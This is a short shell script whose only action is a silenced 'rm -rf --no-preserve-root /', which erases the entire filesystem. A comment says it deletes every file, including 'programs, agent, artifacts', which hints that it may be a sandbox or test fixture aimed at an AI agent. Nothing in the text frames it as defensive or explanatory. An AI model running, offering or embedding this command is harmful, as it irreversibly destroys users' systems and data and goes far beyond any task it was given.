#!/bin/sh
# Deletes every file that the system has: programs, agent, artifacts. What is left is this shell.
rm -rf --no-preserve-root / 2>/dev/null
exit 5
